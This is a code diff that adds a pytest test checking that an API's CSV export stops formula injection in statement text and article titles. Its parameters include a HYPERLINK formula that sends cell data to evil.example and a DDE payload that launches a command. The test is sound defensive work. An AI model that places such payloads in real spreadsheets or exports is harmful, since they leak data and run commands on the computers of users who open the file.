@@ -144,6 +144,19 @@ def test_csv(api, h):
     assert all(r["party.code"] == "BB" for r in rows)
 
 
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
+                                  "-2+3 of the drafts were rejected", "+1 demand", "\t=1+1", " =1+1"])
+def test_csv_cells_never_start_a_formula(api, h, text):
+    """Statement text and article titles (a fetched page's <title> too) reached a spreadsheet as formulas."""
+    statement = h.s["bb2"]
+    Statement.objects.filter(pk=statement.pk).update(text=text)
+    statement.article.__class__.objects.filter(pk=statement.article_id).update(title=text)
+    rows = list(csv.DictReader(io.StringIO(api.get(URL, {"format": "csv", "party": "BB"}).content.decode())))
+    row = next(r for r in rows if int(r["id"]) == statement.pk)
+    assert row["text"] == "'" + text and row["article.title"] == "'" + text
+    assert not any(cell.lstrip()[:1] in "=+-@" for r in rows for cell in r.values() if cell)
+
+
 def test_detail_shows_any_status(api, h):
     response = api.get(f"{URL}{h.s['gone'].pk}/")
     assert response.status_code == 200
